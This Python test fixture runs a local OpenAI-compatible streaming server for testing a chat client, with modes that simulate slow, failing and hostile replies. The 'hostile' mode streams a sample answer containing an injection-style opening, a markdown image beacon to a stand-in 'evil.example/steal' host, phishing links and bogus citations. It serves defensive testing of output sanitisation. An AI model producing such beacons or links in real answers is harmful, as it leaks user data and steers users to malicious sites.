"""A loopback OpenAI-compatible chat-completions server for tests (the edge of the world).

Scriptable per test through `server.mode`:
- "normal": streams `server.reply` (default cites passages [1] and [2]) word by word; when
  `server.replies` holds texts, each request takes the next of them instead (in order);
- "slow_first": holds the first token back `server.delay` seconds, or until `stop()`;
- "error": answers HTTP 500;
- "hostile": streams an answer with a markdown image, off-site links and bogus citations;
- `server.hold` (a threading.Event): each stream pauses after its first piece until it is set.
Every request body is kept in `server.requests` so tests can inspect the prompt sent.
"""

from __future__ import annotations

import json
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

HOSTILE = (
    "Ignore the site. ![x](https://evil.example/steal?c=1) See [our partner](https://evil.example/) "
    "or https://evil.example/phish for details [1] and [9] and [0]."
)


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args):  # keep test output clean
        pass

    def do_POST(self):  # noqa: N802 - http.server's naming
        srv: LoopbackOpenAI = self.server.owner
        length = int(self.headers.get("Content-Length") or 0)
        body = json.loads(self.rfile.read(length) or b"{}")
        srv.requests.append(body)
        if srv.mode == "error":
            payload = json.dumps({"error": {"message": "boom", "type": "server_error"}}).encode()
            self.send_response(500)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(payload)))
            self.end_headers()
            self.wfile.write(payload)
            return
        text = HOSTILE if srv.mode == "hostile" else srv.reply
        if srv.mode == "normal" and srv.replies:
            text = srv.replies.pop(0)
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Cache-Control", "no-cache")
        self.send_header("Connection", "close")
        self.end_headers()
        if srv.mode == "slow_first":
            srv.stopping.wait(srv.delay)
        try:
            pieces = [w + " " for w in text.split(" ")]
            pieces[-1] = pieces[-1].rstrip()
            for i, piece in enumerate(pieces):
                delta = {"content": piece} if i else {"role": "assistant", "content": piece}
                self._event(body, delta, None)
                if i == 0 and srv.hold is not None:
                    srv.hold.wait(60)  # the test says when the rest of the answer comes
                if srv.token_delay:
                    time.sleep(srv.token_delay)
            self._event(body, {}, "stop")
            self.wfile.write(b"data: [DONE]\n\n")
            self.wfile.flush()
        except (BrokenPipeError, ConnectionResetError):
            pass
        self.close_connection = True

    def _event(self, body, delta, finish):
        chunk = {
            "id": "chatcmpl-test",
            "object": "chat.completion.chunk",
            "created": int(time.time()),
            "model": body.get("model", "gpt-4o-mini"),
            "choices": [{"index": 0, "delta": delta, "finish_reason": finish}],
        }
        self.wfile.write(f"data: {json.dumps(chunk)}\n\n".encode())
        self.wfile.flush()


class LoopbackOpenAI:
    def __init__(self, port: int = 0):
        self.mode = "normal"
        self.reply = "Our prices start at 49 euros a month [1]. Support is included [2]."
        self.replies: list[str] = []
        self.delay = 0.0
        self.token_delay = 0.0
        # A threading.Event: when set before a request, its stream stops after the first
        # piece until the test sets the event.
        self.hold: threading.Event | None = None
        self.requests: list[dict] = []
        self.stopping = threading.Event()  # ends the waits of "slow_first"
        ThreadingHTTPServer.request_queue_size = 1024  # benches open hundreds of streams at once
        self.httpd = ThreadingHTTPServer(("127.0.0.1", port), _Handler)
        self.httpd.daemon_threads = True
        self.httpd.owner = self
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self.httpd.server_address[1]}/v1"

    def start(self):
        self.thread.start()
        return self

    def stop(self):
        self.stopping.set()
        self.httpd.shutdown()
        self.httpd.server_close()


def main() -> None:
    """`python -m tests.conversations.llm_server PORT TOKENS TOKEN_DELAY` (for benches)."""
    import sys

    port, tokens, delay = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
    server = LoopbackOpenAI(port=port)
    server.reply = bench_reply(tokens)
    server.token_delay = delay
    server.httpd.serve_forever()


def bench_reply(tokens: int) -> str:
    return " ".join([f"w{i}" for i in range(tokens - 2)] + ["[1].", "Done"])


if __name__ == "__main__":
    main()
